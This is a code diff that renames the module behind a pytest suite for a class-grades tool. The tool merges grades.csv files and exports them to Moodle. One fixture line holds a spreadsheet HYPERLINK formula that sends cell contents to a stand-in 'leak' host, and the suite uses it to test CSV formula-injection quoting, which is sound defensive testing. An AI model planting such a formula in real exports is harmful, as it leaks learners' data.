@@ -1,4 +1,4 @@
-"""A class's grades across files (course_utils.grader.classgrades): merge from machines, export for Moodle.
+"""A class's grades across files (course_admin.grades): merge from machines, export for Moodle.
 
 merge: one lesson's grades.csv from two machines become one; a learner graded differently on two
 machines, or files of two lessons, are a one-line error with nothing written. lms: a roster that misses
@@ -13,7 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from course_utils.grader import classgrades
+from course_admin import grades
 
 ROOT = Path(__file__).resolve().parents[2]
 HEADER = ["student", "lesson", "score", "max_score", "l01_a_test", "l01_b_test", "reasons", "review"]
@@ -38,7 +38,7 @@ def read(path: Path) -> list[list[str]]:
 
 
 def run(*args, cwd=None):
-    return subprocess.run([sys.executable, "-m", "course_utils.grader.classgrades", *map(str, args)],
+    return subprocess.run([sys.executable, "-m", "course_admin.grades", *map(str, args)],
                           capture_output=True, text=True, cwd=cwd)
 
 
@@ -60,7 +60,7 @@ def test_merge_refuses_what_it_cannot_merge_in_one_line_and_writes_nothing(tmp_p
     m1, m2 = write(tmp_path / "m1.csv", [HEADER, *MACHINE1]), write(tmp_path / "m2.csv", other)
     out = write(tmp_path / "grades.csv", [["what", "was", "there"]])
     done = run("merge", m1, m2, "--out", out)
-    assert done.returncode == classgrades.EXIT_BAD_INPUT and done.stdout == ""
+    assert done.returncode == grades.EXIT_BAD_INPUT and done.stdout == ""
     assert words in done.stderr and len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr
     assert read(out) == [["what", "was", "there"]], "a refused merge leaves the old file as it was"
 
@@ -79,7 +79,7 @@ def nbgrader_export(tmp_path) -> Path:
         plugin.to = str(exported)
         plugin.export(gb)
     rows = read(exported)
-    assert rows[0] == classgrades.NBGRADER_EXPORT, "nbgrader's export columns changed"
+    assert rows[0] == grades.NBGRADER_EXPORT, "nbgrader's export columns changed"
     filled = {"ada": ("12.0", "2.0", "10.0"), "bob": ("5.0", "0.0", "5.0")}  # raw, late penalty, score
     for r in rows[1:]:
         r[7:11] = [*filled.get(r[3], ("0.0", "0.0", "0.0")), "12.0"]
@@ -91,7 +91,7 @@ def test_lms_export_joins_the_roster_with_every_lesson(tmp_path):
     roster = write(tmp_path / "roster.csv", ROSTER)
     out = tmp_path / "moodle.csv"
     done = run("lms", m1, m2, nbgrader_export(tmp_path), "--roster", roster, "--out", out)
-    assert done.returncode == classgrades.EXIT_NOT_IN_ROSTER, done.stderr
+    assert done.returncode == grades.EXIT_NOT_IN_ROSTER, done.stderr
     assert "graded but not in the roster" in done.stderr and "cy" in done.stderr, "a learner left out is named"
     assert read(out) == [
         ["ID number", "First name", "Last name", "Email address", "01-circuits (10 points)",
@@ -121,14 +121,14 @@ def test_lms_export_refuses_bad_input_in_one_line(tmp_path, roster, files, words
     if files == "two maxima":
         paths.append(write(tmp_path / "b.csv", [HEADER, ["cy", "01-circuits", "1", "12", "1", "0", "", ""]]))
     done = run("lms", *paths, "--roster", write(tmp_path / "roster.csv", roster), "--out", tmp_path / "o.csv")
-    assert done.returncode == classgrades.EXIT_BAD_INPUT and words in done.stderr, done.stderr
+    assert done.returncode == grades.EXIT_BAD_INPUT and words in done.stderr, done.stderr
     assert len(done.stderr.strip().splitlines()) == 1 and not (tmp_path / "o.csv").exists()
 
 
 def test_bad_invocations_are_one_line_errors(tmp_path):
     for args in ([], ["lms", "x.csv"], ["merge", "--out", "o.csv"], ["export", "x"], ["merge", tmp_path / "missing.csv", "--out", "o.csv"]):
         done = run(*args, cwd=tmp_path)
-        assert done.returncode == classgrades.EXIT_BAD_INPUT, (args, done.stderr)
+        assert done.returncode == grades.EXIT_BAD_INPUT, (args, done.stderr)
         assert len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr, (args, done.stderr)
 
 
@@ -162,7 +162,7 @@ FORMULA = '=HYPERLINK("http://x.example/?leak="&A3&B3,"see")'
 
 
 def is_formula(cell: str) -> bool:
-    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not classgrades.reports._NUMBER.match(cell)
+    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not grades.reports._NUMBER.match(cell)
 
 
 def test_merge_quotes_formulas_reads_back_what_it_wrote_and_matches_learners(tmp_path):
